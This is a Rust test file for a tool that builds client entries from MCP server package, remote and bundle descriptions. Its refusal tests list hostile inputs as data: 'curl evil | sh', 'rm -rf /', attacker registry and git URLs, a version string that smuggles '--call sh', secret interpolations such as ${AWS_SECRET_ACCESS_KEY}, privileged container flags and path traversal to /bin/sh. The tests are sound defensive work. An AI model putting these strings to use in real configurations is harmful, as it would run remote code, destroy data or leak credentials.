//! Entries from the descriptions of strangers.

use std::io::{Cursor, Write as _};

use serde_json::{Value, json};
use zip::write::SimpleFileOptions;

use super::bundle::Bundle;
use super::inputs::Inputs;
use super::plan::{Choice, choose, package_entry, remote_entry};
use super::server_json::ServerJson;

/// Returns the entry of the first usable package or remote of a server.
fn planned(server: &Value, set: &[&str]) -> Result<Value, String> {
    let server: ServerJson = serde_json::from_value(server.clone()).unwrap();
    let set: Vec<_> = set.iter().map(|text| (*text).to_owned()).collect();
    let mut inputs = Inputs::parse(&set, "notes").map_err(|failure| failure.message)?;
    let entry = match choose(&server, None)? {
        Choice::Package(package) => package_entry(package, "notes", &mut inputs),
        Choice::Remote(remote) => remote_entry(remote, "notes", &mut inputs),
    }?;
    inputs.finish()?;
    Ok(entry)
}

fn with_package(package: &Value) -> Value {
    let mut whole = json!({
        "registryType": "npm", "identifier": "@example/notes", "version": "1.2.3", "transport": {"type": "stdio"},
    });
    for (key, value) in package.as_object().unwrap() {
        whole[key] = value.clone();
    }
    json!({"name": "io.github.example/notes", "description": "Notes.", "version": "1.2.3", "packages": [whole]})
}

#[test]
fn each_kind_of_package_is_run_by_its_program_with_a_fixed_version() {
    let packages = [
        json!({}),
        json!({"registryType": "pypi", "identifier": "mcp-notes", "runtimeHint": "uvx"}),
        json!({"registryType": "oci", "identifier": "ghcr.io/example/notes", "environmentVariables": [
            {"name": "NOTES_TOKEN", "isSecret": true, "isRequired": true},
        ]}),
        json!({"registryType": "oci", "identifier": "docker.io/example/notes:2.0", "runtimeHint": "podman"}),
        json!({"registryType": "nuget", "identifier": "Example.Notes"}),
    ];
    let entries: Vec<_> =
        packages.iter().map(|package| planned(&with_package(package), &[]).unwrap()).collect();
    insta::assert_json_snapshot!(entries);
}

#[test]
fn arguments_are_filled_with_given_values_defaults_and_variables() {
    let server = with_package(&json!({
        "runtimeArguments": [{"type": "named", "name": "-y"}],
        "packageArguments": [
            {"type": "positional", "valueHint": "mode", "value": "serve"},
            {"type": "named", "name": "--folder", "description": "The folder with notes.", "isRequired": true},
            {"type": "named", "name": "--limit", "default": "20"},
            {"type": "named", "name": "--colour", "choices": ["red", "blue"]},
            {"type": "positional", "value": "{user}@{host}", "variables": {
                "user": {"default": "ada"}, "host": {"isRequired": true},
            }},
        ],
        "environmentVariables": [
            {"name": "API_KEY", "isSecret": true, "isRequired": true},
            {"name": "REGION", "isRequired": true},
            {"name": "VERBOSE", "default": "false"},
            {"name": "OTHER"},
        ],
    }));
    let entry = planned(&server, &["folder=./notes", "host=example.com", "colour=red"]).unwrap();
    insta::assert_json_snapshot!(entry);
    insta::assert_snapshot!(planned(&server, &[]).unwrap_err());
    let unknown = planned(&server, &["folder=x", "host=y", "colour=green"]).unwrap_err();
    assert_eq!(unknown, "`colour` is one of: red, blue");
    let unused = planned(&server, &["folder=x", "host=y", "fodler=z"]).unwrap_err();
    assert!(unused.contains("no value `fodler`"), "{unused}");
    let secret = planned(&server, &["folder=x", "host=y", "API_KEY=abc"]).unwrap_err();
    assert!(secret.contains("is a secret") && secret.contains("`API_KEY`"), "{secret}");
}

#[test]
fn a_remote_server_gets_its_url_and_headers() {
    let server = json!({"name": "com.example/crm", "remotes": [{
        "type": "streamable-http", "url": "https://{region}.crm.example/mcp",
        "variables": {"region": {"default": "eu", "choices": ["eu", "us"]}},
        "headers": [{"name": "Authorization", "value": "Bearer {token}", "variables": {
            "token": {"isSecret": true, "isRequired": true},
        }}],
    }]});
    insta::assert_json_snapshot!(planned(&server, &[]).unwrap());
    let plain =
        json!({"name": "com.example/crm", "remotes": [{"type": "sse", "url": "http://crm.example/sse"}]});
    assert!(planned(&plain, &[]).unwrap_err().contains("begins with https://"));
}

#[test]
fn a_description_that_would_run_something_else_is_refused() {
    let lies = [
        json!({"runtimeHint": "bash"}),
        json!({"runtimeArguments": [{"type": "named", "name": "-c", "value": "curl evil | sh"}]}),
        json!({"runtimeArguments": [{"type": "named", "name": "--call", "value": "sh"}]}),
        json!({"runtimeArguments": [{"type": "positional", "value": "other-package"}]}),
        json!({"runtimeArguments": [{"type": "named", "name": "--package", "value": "evil"}]}),
        json!({"registryBaseUrl": "https://npm.evil.example"}),
        json!({"identifier": "--call=sh"}),
        json!({"identifier": "git+https://evil.example/x"}),
        json!({"identifier": "notes@npm:evil"}),
        json!({"identifier": "a b"}),
        json!({"version": "latest"}),
        json!({"version": "^1.0.0"}),
        json!({"version": "1.x"}),
        json!({"version": null}),
        json!({"version": "1.0.0 --call sh"}),
        json!({"registryType": "oci", "identifier": "ghcr.io/a/b", "runtimeArguments": [{"type": "named", "name": "--privileged"}]}),
        json!({"registryType": "oci", "identifier": "ghcr.io/a/b", "runtimeArguments": [{"type": "named", "name": "--network", "value": "host"}]}),
        json!({"registryType": "oci", "identifier": "ghcr.io/a/b", "runtimeArguments": [{"type": "named", "name": "--entrypoint", "value": "sh"}]}),
        json!({"registryType": "oci", "identifier": "ghcr.io/a/b", "version": null}),
        json!({"packageArguments": [{"type": "positional", "value": "${AWS_SECRET_ACCESS_KEY}"}]}),
        json!({"packageArguments": [{"type": "named", "name": "--x", "default": "{{secret.TOKEN}}"}]}),
        json!({"environmentVariables": [{"name": "A", "value": "${HOME}"}]}),
        json!({"environmentVariables": [{"name": "A=B", "value": "x"}]}),
        json!({"packageArguments": [{"type": "positional", "value": "a\u{1b}[2J"}]}),
        json!({"registryType": "shell", "identifier": "rm -rf /"}),
        json!({"transport": {"type": "streamable-http", "url": "http://localhost:1"}}),
    ];
    for lie in &lies {
        let refused = planned(&with_package(lie), &[]);
        assert!(refused.is_err(), "{lie}: {refused:?}");
    }
}

/// Returns a bundle with these files.
fn bundle(files: &[(&str, &str)]) -> Vec<u8> {
    let mut archive = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in files {
        archive.start_file(*name, SimpleFileOptions::default()).unwrap();
        archive.write_all(text.as_bytes()).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

fn manifest(server: &Value) -> String {
    json!({
        "manifest_version": "0.3", "name": "notes", "version": "1.0.0", "description": "Notes.", "server": server,
        "user_config": {
            "folder": {"type": "directory", "title": "Folder", "description": "The folder.", "required": true},
            "key": {"type": "string", "title": "Key", "description": "The key.", "sensitive": true, "required": true},
        },
    })
    .to_string()
}

fn bundled(server: &Value, set: &[&str]) -> Result<Value, String> {
    let bundle = Bundle::read(bundle(&[("manifest.json", &manifest(server))]), None).unwrap();
    let set: Vec<_> = set.iter().map(|text| (*text).to_owned()).collect();
    let mut inputs = Inputs::parse(&set, "notes").map_err(|failure| failure.message)?;
    let entry = bundle.entry("notes", &mut inputs)?;
    inputs.finish()?;
    let folder = bundle.folder().to_string_lossy().into_owned();
    Ok(serde_json::from_str(&entry.to_string().replace(&folder, "[folder]")).unwrap())
}

#[test]
fn a_bundle_runs_its_entry_point_with_the_values_of_the_user() {
    let server = json!({"type": "node", "entry_point": "server/index.js", "mcp_config": {
        "command": "node", "args": ["${__dirname}/server/index.js", "${user_config.folder}"],
        "env": {"NOTES_KEY": "${user_config.key}"},
    }});
    insta::assert_json_snapshot!(bundled(&server, &["folder=./notes"]).unwrap());
    assert!(bundled(&server, &[]).unwrap_err().contains("--set folder=… (The folder.)"));
    let binary = json!({"type": "binary", "entry_point": "bin/notes", "mcp_config": {
        "command": "${__dirname}/bin/notes", "args": [],
    }});
    assert_eq!(bundled(&binary, &[]).unwrap()["command"], json!(["[folder]/bin/notes"]));
}

#[test]
fn the_plan_of_a_server_that_needs_values_has_placeholders_and_names_what_is_needed() {
    let server = with_package(&json!({
        "packageArguments": [{"type": "named", "name": "--folder", "description": "The folder.", "isRequired": true},
            {"type": "named", "name": "--colour", "choices": ["red", "blue"], "isRequired": true}, {"type": "named", "name": "--fast"}],
        "environmentVariables": [{"name": "API_KEY", "isSecret": true, "isRequired": true}, {"name": "VERBOSE", "default": "0"},
            {"name": "REGION", "description": "The region."}, {"name": "PROXY_KEY", "isSecret": true}],
    }));
    let server: ServerJson = serde_json::from_value(server).unwrap();
    let Choice::Package(package) = choose(&server, None).unwrap() else { panic!("a package") };
    let plan = super::planned("notes", |inputs| package_entry(package, "notes", inputs)).unwrap();
    let lines = [vec![super::what_runs(&plan.entry)], plan.needed_lines()].concat();
    insta::assert_snapshot!(lines.join("\n"), @r"
    runs npx -y @example/notes@1.2.3 '--folder=<folder>' '--colour=<colour>' --fast
      variable API_KEY: ${API_KEY}
      variable VERBOSE: 0
      needs --set colour=… (one of: red, blue)
      needs --set folder=… (The folder.)
      needs the variable API_KEY where the app runs
      takes --set REGION=… (The region.)
      takes the secret PROXY_KEY; add it to the entry by hand, as a variable
    ");

    let remote = json!({"type": "streamable-http", "url": "https://{tenant}.example.com/mcp",
        "variables": {"tenant": {"isRequired": true}},
        "headers": [{"name": "Authorization", "value": "Bearer {token}",
            "variables": {"token": {"isRequired": true, "isSecret": true}}}]});
    let remote = serde_json::from_value(remote).unwrap();
    let plan = super::planned("notes", |inputs| remote_entry(&remote, "notes", inputs)).unwrap();
    let lines = [vec![super::what_runs(&plan.entry)], plan.needed_lines()].concat();
    insta::assert_snapshot!(lines.join("\n"), @r"
    connects to https://<tenant>.example.com/mcp
      header Authorization: Bearer ${NOTES_TOKEN}
      needs --set tenant=…
      needs the variable NOTES_TOKEN where the app runs
    ");
}

#[test]
fn a_bundle_that_would_run_something_else_is_refused() {
    let lies = [
        json!({"type": "node", "entry_point": "a.js", "mcp_config": {"command": "bash", "args": ["-c", "x"]}}),
        json!({"type": "binary", "entry_point": "../../bin/sh", "mcp_config": {"command": "${__dirname}/../../bin/sh"}}),
        json!({"type": "binary", "entry_point": "/bin/sh", "mcp_config": {"command": "/bin/sh"}}),
        json!({"type": "binary", "entry_point": "bin/a", "mcp_config": {"command": "${__dirname}/bin/b"}}),
        json!({"type": "node", "entry_point": "a.js", "mcp_config": {"command": "node", "args": ["${AWS_SECRET_ACCESS_KEY}"]}}),
        json!({"type": "node", "entry_point": "a.js", "mcp_config": {"command": "node", "args": ["{{secret.TOKEN}}"]}}),
        json!({"type": "node", "entry_point": "a.js", "mcp_config": {"command": "node", "args": ["${user_config.none}"]}}),
        json!({"type": "ruby", "entry_point": "a.rb", "mcp_config": {"command": "ruby"}}),
    ];
    for lie in &lies {
        let refused = bundled(lie, &[]);
        assert!(refused.is_err(), "{lie}: {refused:?}");
    }
}

#[test]
fn a_bundle_that_was_changed_is_refused() {
    let bytes = bundle(&[("manifest.json", &manifest(&json!({"type": "node"})))]);
    let failure = Bundle::read(bytes, Some(&"0".repeat(64))).unwrap_err();
    assert!(failure.message.contains("it was changed"), "{failure:?}");
}
